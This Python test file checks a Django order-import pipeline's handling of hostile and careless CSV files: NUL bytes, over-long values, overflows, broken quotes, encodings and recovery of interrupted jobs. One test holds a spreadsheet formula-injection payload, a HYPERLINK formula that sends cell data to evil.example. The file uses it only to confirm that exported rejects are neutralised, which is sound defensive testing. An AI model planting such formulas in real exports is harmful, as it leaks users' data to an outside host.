"""Hostile and careless files (issue #11, findings 4–7): whatever passes the preview is created,
whatever the database would refuse is rejected in the preview with its rows and reason, and
nothing is changed or swallowed silently.

Each test failed on the code before the fix (see the finding in its name).
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import DataError, connection
from django.urls import reverse
from django.utils import timezone
from django_q.models import Schedule

from clients.models import Membership
from clients.services import membership_set
from inventory.models import StockLevel
from orders.importing import jobs as imports
from orders.importing import pipeline, triage
from orders.importing.jobs import import_job_create, import_jobs_recover
from orders.importing.reader import FileProblem
from orders.models import Customer, ImportJob, Order, OrderLine
from tests.orders.import_files import NATIVE_HEADER, csv_bytes, native_order, read_csv
from tests.orders.test_import_command import run as run_command
from tests.orders.test_import_pipeline import counts, run_import
from tests.orders.test_import_pipeline import shop as shop_fixture

shop = shop_fixture  # the pipeline tests' world: LAMP (10 in stock), MUG (none), TENT (5)

pytestmark = pytest.mark.django_db

WHEN = "2024-03-05 14:12:44 -0500"


def padding_orders(n: int, *, prefix: str = "PAD") -> list[dict]:
    """``n`` plain one-line orders with long names: pushes later rows past the 64 KB sniff."""
    return [
        row
        for i in range(n)
        for row in native_order(
            f"{prefix}-{i}", [("MUG", "1", "1.00")], customer_name="Padding " + "x" * 80
        )
    ]


def errors_of(result) -> list[tuple[int, str, str]]:
    return [(e.line, e.column, e.message) for e in result.errors]


def numbers() -> list[str]:
    return sorted(Order.objects.values_list("number", flat=True))


# -- finding 4: the check applies every limit of the database ----------------------------------


def test_4_nul_byte_after_the_sniffed_part_is_rejected_in_the_preview_and_the_rest_imports(shop):
    rows = padding_orders(800) + native_order(
        "NUL-1", [("MUG", "1", "1.00")], customer_name="Jane\x00Doe"
    )
    data = csv_bytes(NATIVE_HEADER, rows)
    assert data.index(b"\x00") > 64 * 1024
    nul_line = 802

    preview = run_import(shop.acme, data, dry_run=True)
    assert (preview.orders_new, preview.orders_rejected) == (800, 1)
    assert errors_of(preview) == [
        (
            nul_line,
            "customer_name",
            "The cell contains a NUL character (\\0), which is not text: remove it and upload "
            "again.",
        )
    ]

    rejects = io.StringIO()
    result = run_import(shop.acme, data, rejects=rejects)
    assert (result.orders_created, result.orders_rejected) == (800, 1)
    assert Order.objects.count() == 800
    report = read_csv(rejects.getvalue().encode())
    assert [r[0] for r in report[1:]] == ["NUL-1"]
    assert report[1][NATIVE_HEADER.index("customer_name")] == "JaneDoe"  # (a NUL makes a file
    # unreadable: the report drops it and says where it was)


def test_4_a_stray_nul_early_in_the_file_rejects_its_order_the_same_way(shop):
    rows = native_order("NUL-0", [("MUG", "1", "1.00")], ship_to_city="Bos\x00ton")
    rows += native_order("OK-1", [("MUG", "1", "1.00")])

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows))

    assert [(e.line, e.column) for e in result.errors] == [(2, "ship_to_city")]
    assert numbers() == ["OK-1"]


@pytest.mark.parametrize(
    ("fields", "column", "message"),
    [
        (
            {"customer_email": "a" * 250 + "@x.io"},
            "customer_email",
            "The value is 255 characters long; at most 254 are allowed.",
        ),
        (
            {"ship_to_postcode": "1" * 21},
            "ship_to_postcode",
            "The value is 21 characters long; at most 20 are allowed.",
        ),
        (
            {"customer_name": "N" * 201},
            "customer_name",
            "The value is 201 characters long; at most 200 are allowed.",
        ),
    ],
    ids=["email-255", "postcode-21", "name-201"],
)
def test_4_over_long_values_are_rejected_in_the_preview_not_cut(shop, fields, column, message):
    rows = native_order("LONG-1", [("MUG", "1", "1.00")], **fields) + native_order(
        "OK-1", [("MUG", "1", "1.00")]
    )
    data = csv_bytes(NATIVE_HEADER, rows)

    preview = run_import(shop.acme, data, dry_run=True)
    assert errors_of(preview) == [(2, column, message)]

    result = run_import(shop.acme, data)
    assert (result.orders_created, result.orders_rejected) == (1, 1)
    assert numbers() == ["OK-1"]


def test_4_an_order_number_of_65_characters_is_rejected_in_the_preview(shop):
    long_number = "N" * 65
    rows = native_order(long_number, [("MUG", "1", "1.00")]) + native_order(
        "OK-1", [("MUG", "1", "1.00")]
    )

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows))

    assert errors_of(result) == [
        (2, "order_number", "The order number is 65 characters long; at most 64 are allowed.")
    ]
    assert numbers() == ["OK-1"]


def test_4_a_total_beyond_the_money_columns_is_rejected_in_the_preview(shop):
    rows = native_order("BIG-1", [("MUG", "2", "9999999999.00")]) + native_order(
        "OK-1", [("MUG", "1", "1.00")]
    )

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows))

    assert errors_of(result) == [
        (
            2,
            "unit_price",
            "The order's total (19,999,999,998.00) is more than the system can hold (below "
            "10,000,000,000): check the prices and quantities.",
        )
    ]
    assert numbers() == ["OK-1"]


def test_4_a_price_that_rounds_up_past_the_limit_is_rejected(shop):
    rows = native_order("BIG-2", [("MUG", "1", "9999999999.999")])

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows))

    assert errors_of(result) == [(2, "unit_price", "The amount 9999999999.999 is too large.")]
    assert Order.objects.count() == 0


def test_4_units_that_would_overflow_a_stock_counter_are_rejected_in_the_preview(shop):
    room = 1_500_000
    StockLevel.objects.filter(product=shop.lamp).update(backordered=triage.COUNTER_MAX - room)
    rows = (
        native_order("S-1", [("LAMP", "1000000", "1.00")])
        + native_order("S-2", [("LAMP", "600000", "1.00")])  # 1.6 M > 1.5 M
        + native_order("S-3", [("LAMP", "400000", "1.00")])  # 1.4 M: fits
    )
    data = csv_bytes(NATIVE_HEADER, rows)

    preview = run_import(shop.acme, data, dry_run=True)
    assert errors_of(preview) == [
        (
            3,
            "sku",
            "SKU 'LAMP': the orders of this file ask for more units than the stock records can "
            "count (1,600,000 > 1,500,000). Check the quantities or split the file.",
        )
    ]
    result = run_import(shop.acme, data)
    assert (result.orders_created, result.orders_rejected) == (2, 1)
    assert numbers() == ["S-1", "S-3"]


def test_4_nul_in_an_order_number_is_rejected_by_a_dry_run_without_a_traceback(shop, tmp_path):
    rows = padding_orders(800) + native_order("BAD\x00NUM", [("MUG", "1", "1.00")])
    path = tmp_path / "feed.csv"
    path.write_bytes(csv_bytes(NATIVE_HEADER, rows))

    code, out, err = run_command(path, "--client", "ACME", "--dry-run")

    assert (code, err) == (1, "")
    assert "Traceback" not in out
    assert out.splitlines()[1] == (
        "Dry run: 800 order(s) with 800 line(s) would be created; 1 order(s) rejected (1 row(s))."
    )
    assert out.splitlines()[2] == (
        "  line 802, order_number: The cell contains a NUL character (\\0), which is not text: "
        "remove it and upload again."
    )
    assert Order.objects.count() == 0


def test_4_an_order_the_database_refuses_at_create_is_rejected_alone(shop, monkeypatch):
    """The safety net behind the check: the chunk is retried order by order."""
    real = pipeline.orders_insert_built

    def refuse_r2(*, news, **kwargs):
        if any(new.number == "R-2" for new in news):
            raise DataError("value out of range\nDETAIL: a second line")
        return real(news=news, **kwargs)

    monkeypatch.setattr(pipeline, "orders_insert_built", refuse_r2)
    rows = [
        row
        for n in ("R-1", "R-2", "R-3")
        for row in native_order(n, [("MUG", "1", "1.00"), ("LAMP", "1", "2.00")])
    ]
    rejects = io.StringIO()

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows), rejects=rejects)

    assert (result.orders_created, result.lines_created) == (2, 4)
    assert (result.orders_rejected, result.rows_rejected) == (1, 2)
    assert errors_of(result) == [
        (4, "order_number", "The database refused order R-2: value out of range")
    ]
    assert numbers() == ["R-1", "R-3"]
    assert OrderLine.objects.count() == 4  # never a part of an order
    report = read_csv(rejects.getvalue().encode())
    assert [(r[0], r[2]) for r in report[1:]] == [("R-2", "MUG"), ("R-2", "LAMP")]
    assert result.summary(False) == (
        "2 order(s) with 4 line(s) created; 1 order(s) rejected (2 row(s))."
    )


@pytest.mark.postgres
@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="the column limits are PostgreSQL's (DATABASE_URL)"
)
def test_4_postgresql_refusing_a_counter_overflow_rejects_only_that_order(shop, monkeypatch):
    """With the check's counter rule switched off, PostgreSQL itself refuses the overflow:
    only that order is rejected, every other order of the chunk is created."""
    monkeypatch.setattr(triage, "COUNTER_MAX", 10**15)
    StockLevel.objects.filter(product=shop.lamp).update(backordered=2_147_483_647 - 100)
    rows = (
        native_order("P-1", [("MUG", "1", "1.00")])
        + native_order("P-2", [("LAMP", "1000", "1.00")])  # 10 on hand, 990 to backorder
        + native_order("P-3", [("MUG", "2", "1.00")])
    )

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows))

    assert (result.orders_created, result.orders_rejected) == (2, 1)
    assert [(e.line, e.order) for e in result.errors] == [(3, "P-2")]
    assert result.errors[0].message.startswith("The database refused order P-2: ")
    assert numbers() == ["P-1", "P-3"]


# -- finding 5: nothing swallowed or merged silently ------------------------------------------


def test_5_an_unterminated_quote_swallowing_the_next_order_is_reported_with_its_line(shop):
    data = (
        "order_number,placed_at,sku,quantity,customer_name,customer_email\n"
        f"UQ-1,{WHEN},MUG,1,Ann,ann@x.io\n"
        f'UQ-2,{WHEN},MUG,1,"Bob,bob@x.io\n'
        f"UQ-3,{WHEN},MUG,1,Cy,cy@x.io\n"
        f"UQ-4,{WHEN},MUG,1,Di,di@x.io\n"
    ).encode()

    result = run_import(shop.acme, data)

    assert errors_of(result) == [
        (
            3,
            "file",
            'Lines 3–5: a quoted cell is not closed (a " without its partner), so the lines '
            "after it were read as part of this row. Fix the quotes and upload again.",
        )
    ]
    assert result.orders_rejected == 1
    assert numbers() == ["UQ-1"]
    assert not Customer.objects.filter(name__contains="UQ-3").exists()


def test_5_a_quote_closed_rows_later_is_reported_too(shop):
    data = (
        "order_number,placed_at,sku,quantity,customer_name,customer_email\n"
        f'UQ-2,{WHEN},MUG,1,"Bob,bob@x.io\n'
        f'UQ-3,{WHEN},MUG,1,Cy",cy@x.io\n'
        f"UQ-4,{WHEN},MUG,1,Di,di@x.io\n"
    ).encode()

    result = run_import(shop.acme, data)

    assert [(e.line, e.column) for e in result.errors] == [(2, "file")]
    assert numbers() == ["UQ-4"]


def test_5_a_multi_line_address_in_quotes_is_still_fine(shop):
    rows = native_order("ML-1", [("MUG", "1", "1.00")], ship_to_address1="1 Main St\nFlat 2, Rear")

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows))

    assert result.errors == []
    assert Order.objects.get().ship_to_address1 == "1 Main St\nFlat 2, Rear"


@pytest.mark.parametrize(
    ("column", "first", "second"),
    [
        ("placed_at", WHEN, "2024-03-06 09:00:00 -0500"),
        ("customer_email", "a@x.io", "b@x.io"),
        ("ship_to_city", "Boston", "Denver"),
    ],
)
def test_5_rows_of_one_order_that_disagree_reject_the_order(shop, column, first, second):
    rows = native_order("C-1", [("MUG", "1", "1.00"), ("LAMP", "1", "1.00")], **{column: first})
    rows[1][column] = second
    rows += native_order("C-2", [("MUG", "1", "1.00")])

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows))

    assert errors_of(result) == [
        (
            3,
            column,
            f"The rows of order C-1 disagree: '{second}' here but '{first}' on line 2. Give "
            "every row of an order the same order details (or leave them blank after the "
            "first row).",
        )
    ]
    assert numbers() == ["C-2"]


def test_5_repeated_or_blank_order_fields_on_later_rows_are_not_a_conflict(shop):
    every = native_order("E-1", [("MUG", "1", "1"), ("LAMP", "1", "1")], customer_email="e@x.io")
    first = native_order(
        "F-1", [("MUG", "1", "1"), ("LAMP", "1", "1")], first_row_only=True, customer_email="f@x"
    )

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, every + first))

    assert result.errors == []
    assert numbers() == ["E-1", "F-1"]


# -- finding 6: the rejected-rows file is safe in a spreadsheet and imports once fixed -----------


def test_6_rejected_rows_are_formula_safe_and_re_import_after_the_fix(shop):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = native_order(
        "F-1",
        [("MUG", "0", "1.00")],
        customer_name=formula,
        ship_to_address1="+1 Main St",
        ship_to_phone="@home",
    )
    rejects = io.StringIO()

    result = run_import(shop.acme, csv_bytes(NATIVE_HEADER, rows), rejects=rejects)

    assert result.orders_rejected == 1
    report = read_csv(rejects.getvalue().encode())
    header, row = report[0], report[1]
    assert row[header.index("customer_name")] == "'" + formula
    assert row[header.index("ship_to_address1")] == "'+1 Main St"
    assert row[header.index("ship_to_phone")] == "'@home"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)

    # The supervisor fixes the quantity, drops the error column and uploads the file again.
    row[header.index("quantity")] = "1"
    fixed = io.StringIO(newline="")
    csv.writer(fixed).writerows([header[:-1], row[:-1]])
    again = run_import(shop.acme, fixed.getvalue().encode())

    assert (again.orders_created, again.errors) == (1, [])
    order = Order.objects.select_related("customer").get()
    assert order.customer.name == formula
    assert (order.ship_to_address1, order.ship_to_phone) == ("+1 Main St", "@home")


# -- finding 7: encodings ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-16", "\t"), ("utf-16", ","), ("utf-16-be", "\t")],
    ids=["excel-unicode-text", "utf16-comma", "utf16-be"],
)
def test_7_utf16_files_with_a_bom_are_read(shop, encoding, delimiter):
    rows = native_order("U-1", [("MUG", "2", "1.50")], customer_name="Zoë Ñandú")
    rows += native_order("U-2", [("LAMP", "1", "3.00")])
    text = csv_bytes(NATIVE_HEADER, rows, delimiter=delimiter).decode()
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data

    result = run_import(shop.acme, data)

    assert (result.orders_created, result.errors) == (2, [])
    assert Order.objects.get(number="U-1").customer.name == "Zoë Ñandú"


def test_7_utf16_without_a_bom_is_named_in_the_message(shop):
    data = csv_bytes(NATIVE_HEADER, native_order("U-1", [("MUG", "1", "1")])).decode()

    with pytest.raises(FileProblem) as caught:
        run_import(shop.acme, data.encode("utf-16-le"))

    assert "UTF-16" in str(caught.value)


def test_7_a_latin1_byte_is_reported_on_its_true_line(shop):
    rows = [
        {"order_number": f"L-{i}", "placed_at": WHEN, "sku": "MUG", "quantity": "1"}
        | {"customer_name": "Buyer"}
        for i in range(1500)
    ]
    data = csv_bytes(["order_number", "placed_at", "sku", "quantity", "customer_name"], rows)
    data += f"L-X,{WHEN},MUG,1,Caf".encode() + "é\n".encode("latin-1")
    assert data.index(b"\xe9") > 64 * 1024
    before = counts()

    with pytest.raises(FileProblem) as caught:
        run_import(shop.acme, data)

    assert str(caught.value) == (
        "Line 1502: the file is not UTF-8 text from here on. Save it as 'CSV UTF-8' and upload "
        "again."
    )
    assert counts() == before


# -- finding 8 without processes (the killed worker itself: test_import_resume_pg.py) ----------


def confirmed_job(shop, **fields) -> ImportJob:
    rows = native_order("J-1", [("MUG", "1", "1.00")]) + native_order("J-2", [("MUG", "1", "1")])
    job = import_job_create(
        client=shop.acme,
        user=shop.supervisor,
        upload=SimpleUploadedFile("orders.csv", csv_bytes(NATIVE_HEADER, rows)),
    )
    ImportJob.objects.filter(pk=job.pk).update(status=ImportJob.Status.IMPORTING, **fields)
    job.refresh_from_db()
    return job


def test_8_a_worker_on_another_host_without_heartbeat_for_the_lease_is_taken_for_dead(
    shop, settings
):
    settings.IMPORT_LEASE_SECONDS = 60
    fresh = confirmed_job(shop, worker="other-host:123", heartbeat_at=timezone.now())
    stale = confirmed_job(
        shop, worker="other-host:456", heartbeat_at=timezone.now() - timedelta(seconds=61)
    )

    assert import_jobs_recover() == 1

    fresh.refresh_from_db()
    stale.refresh_from_db()
    assert (fresh.status, stale.status) == ("importing", "interrupted")
    assert (stale.orders_created, stale.worker, stale.heartbeat_at) == (0, "", None)


def test_8_a_queued_job_waits_for_a_worker_until_the_patience_runs_out(shop, settings):
    settings.IMPORT_QUEUE_PATIENCE_SECONDS = 600
    queued = confirmed_job(shop, worker="", heartbeat_at=timezone.now() - timedelta(seconds=599))
    assert import_jobs_recover() == 0
    ImportJob.objects.filter(pk=queued.pk).update(
        heartbeat_at=timezone.now() - timedelta(seconds=601)
    )
    assert import_jobs_recover() == 1


def test_8_a_worker_whose_job_was_taken_over_stops_at_its_next_heartbeat(shop, monkeypatch):
    job = confirmed_job(shop, worker="", heartbeat_at=timezone.now())
    real = imports._progress_saver

    def taken_over_then_save(job_id):
        save = real(job_id)

        def saver(result, line):
            ImportJob.objects.filter(pk=job_id).update(worker="other-host:1")
            save(result, 0)

        return saver

    monkeypatch.setattr(imports, "_progress_saver", taken_over_then_save)

    imports.import_job_run(job_id=job.pk)

    job.refresh_from_db()
    assert (job.status, job.worker) == ("importing", "other-host:1")  # left to the other one
    assert Order.objects.count() == 0  # it stopped in the check, before creating anything


def test_8_the_schedule_that_recovers_imports_is_set_up(db):
    call_command("setup_schedules", stdout=io.StringIO())

    schedule = Schedule.objects.get(name="Recover interrupted imports")
    assert (schedule.func, schedule.minutes) == ("orders.tasks.recover_imports", 5)


def test_8_only_a_supervisor_of_the_jobs_client_may_resume_it(shop, client, make_user):
    job = confirmed_job(shop, worker="other-host:9", heartbeat_at=timezone.now() - timedelta(1))
    assert import_jobs_recover() == 1
    # Supervises NORD, only an agent of ACME (the job's client).
    mixed = make_user("mixed", clients=[shop.nord], role="supervisor")
    membership_set(user=mixed, client=shop.acme, role=Membership.Role.AGENT)
    client.force_login(mixed)

    response = client.post(reverse("admin:orders_importjob_resume", args=[job.pk]))

    assert response.status_code in (302, 403, 404)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.INTERRUPTED
    assert Order.objects.count() == 0
